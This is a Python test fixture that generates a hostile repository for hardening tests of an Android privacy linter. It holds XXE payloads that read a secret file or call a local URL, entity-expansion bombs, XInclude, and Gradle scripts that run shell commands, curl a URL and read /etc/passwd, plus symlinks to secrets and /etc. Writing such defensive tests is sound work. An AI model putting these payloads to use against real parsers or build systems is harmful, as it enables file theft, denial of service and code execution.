"""A hostile repository, generated at test time (nothing big or dangerous is committed).

`build(root, secret, port)` writes, next to a copy of the leaky example app (whose planted problems must
still be found), one input per kind of hostile or broken file, and returns what the run must say about each:
`Expect(path, needle)` — a diagnostic for `path` whose message contains `needle` (`None`: no diagnostic
needed, the file only has to be survived). `secret` is a file outside the repository that no output may
quote; `port` is a local TCP port that nothing may connect to.
"""

from __future__ import annotations

import codecs
import os
import shutil
from collections import Counter
from dataclasses import dataclass
from pathlib import Path

from tests.conftest import EXAMPLES

ANDROID = 'xmlns:android="http://schemas.android.com/apk/res/android"'
MANIFEST = f'<manifest {ANDROID} package="com.hostile">\n<application android:label="{{label}}"/>\n</manifest>\n'
SRC = "leaky/app/src/main/java/com/example/dailynews/hostile"
MARKER = "PWNED-BY-GRADLE"


@dataclass(frozen=True)
class Expect:
    kind: str  # the family of input, for the counts in the closing note
    path: str  # relative to the scan root
    needle: str | None  # substring of the diagnostic message, or None when none is required


def _bomb(levels: int = 10) -> str:
    ents = ['<!ENTITY l0 "lol">'] + [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, levels)]
    return f'<?xml version="1.0"?>\n<!DOCTYPE manifest [{"".join(ents)}]>\n' + MANIFEST.format(label=f"&l{levels - 1};")


def _doc(prolog: str, label: str = "x") -> bytes:
    return (prolog + MANIFEST.format(label=label)).encode()


def xml_inputs(secret: Path, port: int) -> dict[str, tuple[bytes, str | None]]:
    """Manifest name → (bytes, expected diagnostic substring)."""
    url = f"http://127.0.0.1:{port}"
    head = f'<manifest {ANDROID} package="com.h">'
    return {
        "xxe-file": (_doc(f'<?xml version="1.0"?>\n<!DOCTYPE manifest [<!ENTITY leak SYSTEM "file://{secret}">]>\n',
                          "&leak;"), "external entity"),
        "xxe-url": (_doc(f'<!DOCTYPE manifest [<!ENTITY r SYSTEM "{url}/x.xml">]>\n', "&r;"), "external entity"),
        "xxe-parameter": (_doc(f'<!DOCTYPE manifest [<!ENTITY % p SYSTEM "file://{secret}"> %p;'
                               f'<!ENTITY % q SYSTEM "{url}/p.dtd"> %q;]>\n'), "DOCTYPE was ignored"),
        "external-dtd-file": (_doc(f'<!DOCTYPE manifest SYSTEM "file://{secret}">\n'), "DOCTYPE was ignored"),
        "external-dtd-url": (_doc(f'<!DOCTYPE manifest PUBLIC "-//EVIL//DTD//EN" "{url}/evil.dtd">\n'),
                             "DOCTYPE was ignored"),
        "billion-laughs": (_bomb().encode(), "XML problem"),
        "quadratic-blowup": (_doc(f'<!DOCTYPE manifest [<!ENTITY a "{"x" * 50_000}">]>\n', "&a;" * 5_000),
                             "amplification"),
        "xinclude": ((f'<manifest {ANDROID} xmlns:xi="http://www.w3.org/2001/XInclude" package="com.h">'
                      f'<xi:include href="{secret}" parse="text"/><xi:include href="{url}/i.xml"/>'
                      "<application/></manifest>").encode(), "XInclude"),
        "processing-instructions": (_doc(f'<?xml version="1.0"?>\n<?xml-stylesheet href="{url}/s.xsl"?>\n'
                                         "<?php system('id'); ?>\n"), None),
        "enormous-attribute": (_doc("", "A" * 4_000_000), None),
        "many-attributes": ((head + "<application " + " ".join(f'a{i}="v"' for i in range(100_000))
                             + "/></manifest>").encode(), "only the first 256"),
        "many-elements": ((head + "<application>" + "<meta-data/>" * 150_000 + "</application></manifest>").encode(),
                          "more than 100,000 elements"),
        "deep-nesting": ((head + "<a>" * 50_000 + "</a>" * 50_000 + "</manifest>").encode(), "depth"),
        "unterminated-comments": (_doc("") + b"<!--" * 300_000, "XML problem"),
        "unterminated-tags": (head.encode() + b"</x" * 300_000, "XML problem"),
        "truncated": ((head + "\n<application android:na").encode(), "XML problem"),
        "not-xml": (b'{"manifest": {"package": "com.h"}}\n', "XML problem"),
        "empty": (b"", "XML problem"),
        "binary": (b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 16, "binary"),
        "utf16-with-bom": (MANIFEST.format(label="x").encode("utf-16"), None),
    }


def _kotlin_call(name: str) -> str:
    return (f"package com.example.dailynews.hostile\n\nobject {name} {{\n"
            "    fun read(): String = android.os.Build.getSerial()\n}\n")


def _java_call(name: str) -> str:
    return (f"package com.example.dailynews.hostile;\n\nclass {name} {{\n"
            "    static String read() { return android.os.Build.getSerial(); }\n}\n")


def source_inputs() -> dict[str, tuple[bytes, str | None]]:
    """Source file name (in the leaky app) → (bytes, expected diagnostic substring)."""
    kt, java = _kotlin_call, _java_call
    deep = "(" * 5_000 + "1" + ")" * 5_000
    chain = " + ".join(["x"] * 20_000)
    lambdas = "run { " * 2_000 + "android.os.Build.getSerial()" + " }" * 2_000
    return {
        "Binary.kt": (b"\x7fELF\x02\x01\x01\x00\x00" + bytes(range(256)) * 8, "binary"),
        "Empty.kt": (b"", None),
        "OnlyBom.java": (codecs.BOM_UTF8, None),
        "Utf16LeBom.kt": (kt("Utf16LeBom").encode("utf-16"), None),
        "Utf16BeBom.java": (codecs.BOM_UTF16_BE + java("Utf16BeBom").encode("utf-16-be"), None),
        "Utf16LeNoBom.kt": (kt("Utf16LeNoBom").encode("utf-16-le"), "UTF-16-LE without"),
        "Utf16BeNoBom.java": (java("Utf16BeNoBom").encode("utf-16-be"), "UTF-16-BE without"),
        "Utf32LeBom.kt": (kt("Utf32LeBom").encode("utf-32"), None),
        "Utf32BeNoBom.java": (java("Utf32BeNoBom").encode("utf-32-be"), "UTF-32-BE without"),
        "Utf8Bom.kt": (codecs.BOM_UTF8 + kt("Utf8Bom").encode(), None),
        "InvalidUtf8.kt": (kt("InvalidUtf8").encode().replace(b"fun", b"// caf\xe9 \xff\xfe\nfun"), "invalid UTF-8"),
        "Latin1.java": (java("Latin1").replace("class", "// Gr\u00fc\u00dfe\nclass").encode("latin-1"),
                        "invalid UTF-8"),
        "Crlf.kt": (kt("Crlf").replace("\n", "\r\n").encode(), None),
        "MixedEndings.java": (java("MixedEndings").replace("\n", "\r", 2).replace("{\n", "{\r\n").encode(), None),
        "OneLine20MB.kt": (b"package x\nval v = listOf(" + b"1," * 10_000_000 + b")\n", "over the"),
        "Generated10MB.java": (("package gen;\nclass Generated10MB {\n" + "".join(
            f"  int f{i}(int a) {{ return a * {i} + android.os.Build.VERSION.SDK_INT; }}\n" for i in range(150_000))
            + "}\n").encode(), "over the"),
        "DeepParens.kt": (f"package x\nval v = {deep}\n".encode(), "nested"),
        "DeepParens.java": (f"class DeepParens {{ int v = {deep}; }}\n".encode(), "nested"),
        "LongChain.kt": (f"package x\nfun f(x: Int) = {chain}\n".encode(), "nested"),
        "LongChain.java": (f"class LongChain {{ int f(int x) {{ return {chain}; }} }}\n".encode(), "nested"),
        "DeepLambdas.kt": (f"package x\nfun f() {{ {lambdas} }}\n".encode(), "nested"),
        "SyntaxSoup.kt": (("package x\n" + "fun ( { val = ) } class object when -> !! ?: @@ `\n" * 2_000).encode(),
                          "syntax errors"),
        "SyntaxSoup.java": (("class { void ( ; } ) int [ = new >>> @interface \n" * 2_000).encode(), "syntax errors"),
        "Unclosed.kt": (b'package x\nfun f() {\n  val s = "unterminated\n  if (x) {\n', "syntax errors"),
        "UnclosedCalls.kt": (("package x\nfun g() {\n  val v = " + "f(" * 5_000 + "\n}\n").encode(), "nested"),
        # tree-sitter's error recovery on this is superlinear (3,000 repetitions: 5-25 s): keep it well inside
        # any time budget, so the verdict never depends on the machine's speed.
        "FlattenedClasses.kt": (("package x\n" + "class A : B() {\n  context(c: C)\n" * 500).encode(),
                                "syntax errors"),
        "NulInMiddle.java": (java("NulInMiddle").encode().replace(b"static", b"\x00static"), "binary"),
    }


def gradle_inputs(port: int, marker_dir: Path) -> dict[str, tuple[str, str | None]]:
    """Files of a Gradle project with unusual and hostile build logic (only read, never run)."""
    marker = marker_dir / MARKER
    url = f"http://127.0.0.1:{port}"
    settings = (
        "pluginManagement { repositories { maven { url '" + url + "/m2' } } }\n"
        "rootProject.name = 'weird'\n"
        "include ':app', ':outside', ':loop', ':gone'\n"
        "project(':outside').projectDir = new File('/etc')\n"
        "project(':gone').projectDir = file('does/not/exist')\n"
        f"'touch {marker}'.execute()\n"
        f"Runtime.getRuntime().exec('touch {marker}-2')\n"
        f"new ProcessBuilder('touch', '{marker}-3').start()\n"
        f"apply from: '{url}/evil.gradle'\n"
        "includeBuild('../../..')\n"
    )
    build = (
        "plugins { id 'com.android.application' }\n"
        "def cmd = ['sh', '-c', 'touch " + str(marker) + "-4']\n"
        "cmd.execute().waitFor()\n"
        "android {\n  namespace 'com.weird'\n  compileSdk = 34\n"
        "  defaultConfig { applicationId \"com.weird.${System.getenv('HOME')}\" }\n}\n"
        "dependencies {\n  implementation(\"com.umeng.umsdk:common:${'curl " + url + "'.execute().text}\")\n"
        "  implementation files(\"/etc/passwd\")\n  implementation fileTree(dir: '/', include: ['*.jar'])\n"
        "  implementation 'a:b:' + new URL('" + url + "/v').text\n}\n"
        "task evil { doLast { exec { commandLine 'touch', '" + str(marker) + "-5' } } }\n"
        "/* unterminated comment\n"
    )
    kts = (
        "plugins { id(\"com.android.library\") }\n"
        "val v = java.net.URL(\"" + url + "/kts\").readText()\n"
        "Runtime.getRuntime().exec(\"touch " + str(marker) + "-6\")\n"
        "android { namespace = \"com.weird.lib\"; compileSdk = `34 }\n"
        "dependencies { implementation(\"x:y:${ProcessBuilder(\"id\").start()}\") \n"
    )
    catalog = "[versions]\nx = " + "[" * 5_000 + "\n[libraries]\nevil = { module = \"a:b\", version.ref = \"x\" }\n"
    return {
        "settings.gradle": (settings, None),
        "app/build.gradle": (build, None),
        "lib/build.gradle.kts": (kts, None),
        "gradle/libs.versions.toml": (catalog, None),
        "gradle/wrapper/gradle-wrapper.properties": (f"distributionUrl={url}/gradle-8.0-bin.zip\n", None),
        "app/src/main/AndroidManifest.xml": (MANIFEST.format(label="weird"), None),
        "app/src/main/java/com/weird/App.kt": ("package com.weird\nclass App : android.app.Application()\n", None),
    }


def build(root: Path, secret: Path, port: int, marker_dir: Path) -> list[Expect]:
    """Write the hostile repository under `root`; return the expectations."""
    expects: list[Expect] = []
    # A budget far above what any input here needs: what is diagnosed must not depend on the machine's load
    # (the time limits have tests of their own).
    (root / "pipl-lint.toml").write_text("parse-timeout = 120\n")
    shutil.copytree(EXAMPLES / "leaky-app", root / "leaky", ignore=shutil.ignore_patterns(".pipl-lint-cache"))
    for name, (data, needle) in xml_inputs(secret, port).items():
        folder = root / "manifests" / name
        folder.mkdir(parents=True)
        (folder / "AndroidManifest.xml").write_bytes(data)
        expects.append(Expect("manifest", f"manifests/{name}/AndroidManifest.xml", needle))
    src = root / SRC
    src.mkdir(parents=True)
    for name, (data, needle) in source_inputs().items():
        (src / name).write_bytes(data)
        expects.append(Expect("source", f"{SRC}/{name}", needle))
    for rel, (text, needle) in gradle_inputs(port, marker_dir).items():
        path = root / "weird-gradle" / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        expects.append(Expect("gradle", f"weird-gradle/{rel}", needle))
    res = root / "leaky/app/src/main/res"
    for rel, data in resource_inputs(secret).items():
        (res / rel).parent.mkdir(parents=True, exist_ok=True)
        (res / rel).write_bytes(data)
        expects.append(Expect("resource", f"leaky/app/src/main/res/{rel}", None))
    expects += _links_and_special_files(root, src, secret)
    return expects


def resource_inputs(secret: Path) -> dict[str, bytes]:
    """strings.xml and layouts, read only when a rule asks for them: survived, never quoted."""
    xxe = f'<?xml version="1.0"?>\n<!DOCTYPE resources [<!ENTITY s SYSTEM "file://{secret}">]>\n'
    return {
        "values-en/strings.xml": (xxe + '<resources><string name="privacy_policy">&s;</string>'
                                  '<string name="app_name">&s;</string></resources>\n').encode(),
        "values-zh/strings.xml": _bomb().replace("manifest", "resources").encode(),
        "layout/hostile_deep.xml": ("<LinearLayout>" * 30_000 + "</LinearLayout>" * 30_000).encode(),
        "layout/hostile_binary.xml": b"\x00\x01\x02\x03" * 100,
    }


def _links_and_special_files(root: Path, src: Path, secret: Path) -> list[Expect]:
    out: list[Expect] = []
    outside_kt = secret.parent / "Outside.kt"
    outside_kt.write_text(_kotlin_call("Outside") + f"// {secret.read_text()}\n")
    (src / "LinkOut.kt").symlink_to(outside_kt)
    out.append(Expect("link", f"{SRC}/LinkOut.kt", "outside the project"))
    (src / "LinkSecret.java").symlink_to(secret)
    out.append(Expect("link", f"{SRC}/LinkSecret.java", "outside the project"))
    (src / "DevZero.kt").symlink_to("/dev/zero")
    out.append(Expect("link", f"{SRC}/DevZero.kt", "outside the project"))
    (src / "Loop.kt").symlink_to("Loop.kt")
    out.append(Expect("link", f"{SRC}/Loop.kt", "symlink loop"))
    (src / "LoopA.java").symlink_to("LoopB.java")
    (src / "LoopB.java").symlink_to("LoopA.java")
    out.append(Expect("link", f"{SRC}/LoopA.java", "symlink loop"))
    (src / "Dangling.kt").symlink_to("does-not-exist.kt")
    out.append(Expect("link", f"{SRC}/Dangling.kt", "broken symbolic link"))
    (src / "loopdir").symlink_to(".", target_is_directory=True)  # never followed: no endless walk
    (src / "etc").symlink_to("/etc", target_is_directory=True)
    inside = src / "InsideTarget.kt"
    inside.write_text(_kotlin_call("InsideTarget"))
    (src / "LinkInside.kt").symlink_to("InsideTarget.kt")  # a link inside the project is read
    os.mkfifo(src / "Pipe.kt")
    out.append(Expect("special", f"{SRC}/Pipe.kt", "not a regular file"))
    (src / "Folder.java").mkdir()  # a folder with a source name
    bad = os.fsdecode(b"NotUtf8\xff\xfe.kt")
    (src / bad).write_text(_kotlin_call("NotUtf8"))
    out.append(Expect("name", f"{SRC}/NotUtf8\\xff\\xfe.kt", "not valid UTF-8"))
    (src / "New\nLine.kt").write_text(_kotlin_call("NewLine"))
    out.append(Expect("name", f"{SRC}/New\\x0aLine.kt", "control characters"))
    (root / "leaky/app/src/main/res/values/strings.xml").unlink()
    (root / "leaky/app/src/main/res/values/strings.xml").symlink_to(secret)
    return out


def counts(expects: list[Expect]) -> Counter[str]:
    return Counter(e.kind for e in expects)
